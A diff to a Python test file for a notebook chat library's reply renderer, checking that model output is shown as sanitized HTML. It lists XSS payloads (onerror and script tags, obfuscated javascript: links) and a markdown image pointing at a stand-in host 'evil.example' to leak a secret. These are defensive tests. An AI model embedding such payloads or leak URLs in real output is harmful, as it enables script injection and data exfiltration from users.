@@ -1,58 +1,69 @@
+"""How a Reply shows (`nbchat.core.render`): sanitized HTML plus the Markdown source as plain
+text; its footer, tool calls, errors and images. The pipeline itself: tests/test_markdown.py."""
+
+import base64
 import re
 
 import pytest
+from htmlcheck import hrefs, problems, visible_text
+from xss_corpus import CORPUS, ISSUE_EXAMPLES
 
 from nbchat.core.errors import ProviderError
-from nbchat.core.render import footer, safe_markdown
-from nbchat.core.types import Reply, ToolCall, Usage
+from nbchat.core.markdown import render_html
+from nbchat.core.render import footer
+from nbchat.core.types import ImagePart, Reply, ToolCall, Usage
 
 
-def test_raw_html_is_escaped_outside_code():
-    out = safe_markdown('hi <img src=x onerror="alert(1)"> <script>alert(2)</script>')
+def shown(reply: Reply) -> str:
+    bundle = reply._repr_mimebundle_()
+    assert set(bundle) == {"text/html", "text/plain"}  # nothing for a second Markdown parser
+    assert problems(bundle["text/html"]) == [], bundle["text/html"]
+    return bundle["text/html"]
+
+
+def test_raw_html_is_shown_as_text():
+    out = shown(Reply('hi <img src=x onerror="alert(1)"> <script>alert(2)</script>', "m"))
     assert "<img" not in out and "<script" not in out
-    assert "&lt;img src=x" in out and "&lt;script&gt;" in out
+    assert '<img src=x onerror="alert(1)">' in visible_text(out)
 
 
 def test_code_is_left_as_written():
     text = "Use `<b>` tags:\n\n```html\n<script>x()</script>\n```\nafter <i>"
-    out = safe_markdown(text)
-    assert "<code>&#60;b&#62;</code>" in out
-    assert "```html\n<script>x()</script>\n```\n" in out
-    assert out.endswith("after &lt;i&gt;")
+    out = shown(Reply(text, "m"))
+    assert "<code>&lt;b&gt;</code>" in out
+    assert '<code class="language-html">&lt;script&gt;x()&lt;/script&gt;\n</code>' in out
+    assert "after <i>" in visible_text(out)
 
 
 def test_unclosed_fence_stays_code():
-    out = safe_markdown("```\n<b>")
-    assert out == "```\n<b>"
+    out = render_html("```\n<b>")
+    assert "<pre><code>&lt;b&gt;</code></pre>" in out
 
 
 def test_javascript_links_are_neutralised():
-    for target in ("javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:x",
-                   "&#106;avascript:x", "data:text/html,<b>", "vbscript:x"):
-        out = safe_markdown(f"[click]({target})")
-        assert "](#" in out, (target, out)
-    ref = safe_markdown("[a][1]\n\n[1]: javascript:alert(1)")
-    assert "javascript" not in ref
-    assert "(https://example.com/x)" in safe_markdown("[ok](https://example.com/x)")
+    for target in ("javascript:alert(1)", "JaVaScRiPt:alert(1)", "<java\tscript:x>",
+                   "&#106;avascript:x", "<data:text/html,<b>>", "vbscript:x"):
+        out = shown(Reply(f"[click]({target})", "m"))
+        assert hrefs(out) == [], (target, out)
+        assert "click" in visible_text(out)
+    assert hrefs(shown(Reply("[a][1]\n\n[1]: javascript:alert(1)", "m"))) == []
+    assert hrefs(shown(Reply("[ok](https://example.com/x)", "m"))) == ["https://example.com/x"]
 
 
 def test_remote_images_become_links():
-    out = safe_markdown("![leak](https://evil.example/?q=secret)")
-    assert "![" not in out
-    assert "](https://evil.example/?q=secret)" in out
+    out = shown(Reply("![leak](https://evil.example/?q=secret)", "m"))
+    assert "<img" not in out
+    assert hrefs(out) == ["https://evil.example/?q=secret"]
 
 
 def test_footer_figures():
     r = Reply(text="x", model="llamacpp:smollm2", usage=Usage(12, 40),
               time_to_first_token=0.25, duration=1.25)
     assert footer(r) == "llamacpp:smollm2 · 12 in / 40 out tokens · first token 0.25 s · 40.0 tok/s"
-    md = r._repr_markdown_()
-    assert md.startswith("x") and "<sub>" in md
-
-
-def _tags(markdown: str) -> list[str]:
-    """Raw HTML tags in Markdown, other than the `<code>` we write ourselves."""
-    return re.findall(r"<(?!/?code>)[A-Za-z/!?]", markdown)
+    out = shown(r)
+    assert out.startswith('<div class="nbchat-reply">' + render_html("x"))
+    assert "<sub>" + footer(r) + "</sub>" in out
+    assert r._repr_mimebundle_()["text/plain"] == "x"
 
 
 @pytest.mark.parametrize("text", [
@@ -65,23 +76,48 @@ def _tags(markdown: str) -> list[str]:
     "- a\n  ```\n<img src=x onerror=alert(1)>\n",  # the list item, and its fence, ended
 ])
 def test_no_raw_html_where_a_renderer_reads_the_text_differently(text):
-    out = safe_markdown(text)
-    assert _tags(out) == [], out
+    out = shown(Reply(text, "m"))
+    assert not re.findall(r"<(?:img|script)", out), out
 
 
-def test_risky_code_spans_become_escaped_code():
-    out = safe_markdown("`<b>` and `[x](javascript:alert(1))`")
-    assert out == "<code>&#60;b&#62;</code> and <code>&#91;x&#93;(javascript:alert(1))</code>"
-    assert safe_markdown("use `print(x)` here") == "use `print(x)` here"
+def test_code_spans_with_markup_stay_readable_code():
+    out = render_html("`<b>` and `[x](javascript:alert(1))`")
+    assert "<code>&lt;b&gt;</code>" in out and "<code>[x](javascript:alert(1))</code>" in out
+    assert render_html("use `print(x)` here").count("<code>print(x)</code>") == 1
 
 
 def test_tool_calls_from_the_model_cannot_inject_html():
     call = ToolCall("f`<img src=x onerror=alert(1)>`", {"a": "`<script>x()</script>`"})
-    md = Reply(text="", model="m", tool_calls=[call])._repr_markdown_()
-    assert _tags(md.replace("<sub>", "").replace("</sub>", "")) == [], md
+    out = shown(Reply(text="", model="m", tool_calls=[call]))
+    assert "Tool calls" in visible_text(out)
+    assert 'f`<img src=x onerror=alert(1)>`({"a": "`<script>x()</script>`"})' in visible_text(out)
 
 
 def test_error_text_cannot_make_links_or_images():
-    md = Reply(model="m", error=ProviderError("see ![x](https://evil/?q=1) [y](javascript:z)"))
-    out = md._repr_markdown_()
-    assert "![" not in out and "javascript:" not in out
+    out = shown(Reply(model="m", error=ProviderError("see ![x](https://evil/?q=1) [y](javascript:z)"
+                                                     " <img src=x onerror=alert(1)>")))
+    assert hrefs(out) == [] and "<img" not in out
+    assert "see ![x](https://evil/?q=1) [y](javascript:z) <img src=x" in visible_text(out)
+
+
+def test_reply_images_show_inline_from_data_urls():
+    import io
+
+    from PIL import Image
+
+    buf = io.BytesIO()
+    Image.new("RGB", (3, 2), (0, 0, 255)).save(buf, format="PNG")
+    out = shown(Reply(text="here", model="m", image_parts=[ImagePart(buf.getvalue())]))
+    src = re.findall(r'<img class="nbchat-image" alt="image" src="([^"]+)"', out)
+    assert src == ["data:image/png;base64," + base64.b64encode(buf.getvalue()).decode()]
+
+
+@pytest.mark.parametrize("marker", ISSUE_EXAMPLES)
+def test_issue_examples_in_a_displayed_reply(marker):
+    """Issue 10: a lax closing fence, an indented fence and reference definitions made live
+    HTML or javascript: links in a displayed Reply."""
+    payload = dict(CORPUS)[marker]
+    out = shown(Reply(payload, "m"))
+    assert not re.findall(r"<(?:img|script)\b", out), out  # shown as text: &lt;img ...
+    assert not any(h.lower().startswith("javascript") for h in hrefs(out))
+    assert marker in visible_text(out)
